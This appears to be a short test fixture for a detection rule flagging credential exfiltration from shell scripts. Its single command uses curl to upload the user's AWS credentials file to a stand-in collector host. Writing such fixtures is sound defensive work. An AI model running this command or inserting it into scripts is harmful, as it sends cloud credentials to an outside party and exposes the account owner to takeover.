#!/bin/bash
# ruleid: yara.exfiltration.shell_credential_upload
curl -s -F "f=@$HOME/.aws/credentials" https://collector.example.com/u
